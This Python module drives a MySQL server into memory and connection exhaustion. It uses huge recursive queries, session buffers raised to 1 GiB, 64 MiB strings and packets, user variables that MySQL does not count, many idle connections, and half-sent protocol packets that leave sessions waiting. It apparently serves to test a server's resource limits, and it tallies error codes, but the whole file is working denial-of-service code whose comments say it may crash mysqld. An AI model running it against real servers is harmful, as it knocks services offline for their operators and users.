"""Accounts that ask a server for more memory than it has.

In: how to connect as one; for how long. Out: how often each answer came: an error's number, 0 without one. Must never: keep a session after
the end.
"""

import collections
import contextlib
import threading
import time

import pymysql

LARGE = 64 << 20
# Of 100 bytes each; with a session's own buffers as large as it wants them.
ROWS = "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 400000) SELECT {} FROM n"
SORTED = ROWS.format("REPEAT(SHA2(i, 256), 3) AS t")
DISTINCT = ROWS.format("DISTINCT i, REPEAT(SHA2(i, 256), 3)")
BUFFERS = (
    "SET SESSION sort_buffer_size = 1 << 30, join_buffer_size = 1 << 30, tmp_table_size = 1 << 30, max_heap_table_size = 1 << 30, "
    "group_concat_max_len = 1 << 30, cte_max_recursion_depth = 1 << 30"
)
STRINGS = (f"SELECT LENGTH(CONCAT(REPEAT('y', {LARGE}), REPEAT('z', {LARGE})))",)
LARGE_VALUES = (
    STRINGS,
    # A statement with its packet.
    (f"SELECT LENGTH('{'x' * (LARGE - 100)}')",),
    (f"SELECT LENGTH(X'{'00' * (LARGE - 100)}')",),
    # Nobody looks whether the session is to end before all columns are there.
    ("SELECT " + ", ".join(f"LENGTH(REPEAT('{each}', {LARGE}))" for each in "abcdefghijklmnopqrstuvwxyz"),),
    ("SELECT " + ", ".join(f"LENGTH(REPEAT('{each}', {1 << 20}))" for each in range(2000)),),
)
ASKS = (
    *LARGE_VALUES,
    (BUFFERS, f"SELECT COUNT(*), MAX(LENGTH(t)) FROM ({SORTED} ORDER BY t LIMIT 1000000) s"),
    (BUFFERS, f"SELECT COUNT(*) FROM ({DISTINCT}) s"),
    (
        BUFFERS,
        ROWS.format("LENGTH(GROUP_CONCAT(REPEAT(SHA2(i, 256), 30)))"),
        ROWS.format("JSON_LENGTH(JSON_ARRAYAGG(REPEAT(SHA2(i, 256), 30)))"),
    ),
)
# MySQL does not count them: who has filled the memory with them gets errors. What else is asked for then may end mysqld, as docs say.
VARIABLES = (tuple(f"SET @v{number} = REPEAT('x', {LARGE})" for number in range(16)),)


def attack(connect, seconds, sessions=8, asks=ASKS):
    """That many sessions ask at once, one after the other of `asks`, and come again when they were refused."""
    answers, end = collections.Counter(), time.monotonic() + seconds

    def session(number):
        turn = number
        while time.monotonic() < end:
            try:
                with contextlib.closing(connect()) as connection, connection.cursor() as cursor:
                    while time.monotonic() < end:
                        turn += 1
                        for statement in asks[turn % len(asks)]:
                            cursor.execute(statement)
                        answers[0] += 1
            except pymysql.err.MySQLError as error:
                answers[error.args[0]] += 1

    threads = [threading.Thread(target=session, args=(number,)) for number in range(sessions)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return answers


@contextlib.contextmanager
def crowd(connect, sessions):
    """So many that do nothing; yields how many were let in."""
    with contextlib.ExitStack() as opened:
        answers = collections.Counter()
        for _ in range(sessions):
            try:
                opened.enter_context(contextlib.closing(connect()))
                answers[0] += 1
            except pymysql.err.MySQLError as error:
                answers[error.args[0]] += 1
        yield answers


@contextlib.contextmanager
def unfinished(connect, sessions, packets=3):
    """So many that send all but the end of a statement of 64 MiB, and wait."""
    with contextlib.ExitStack() as opened:
        for _ in range(sessions):
            with contextlib.suppress(pymysql.err.MySQLError, OSError):
                connection = opened.enter_context(contextlib.closing(connect()))
                for number in range(packets):
                    connection._sock.sendall(b"\xff\xff\xff" + bytes([number]) + (b"\x03" if number == 0 else b"x") + b"x" * 0xFFFFFE)
        yield
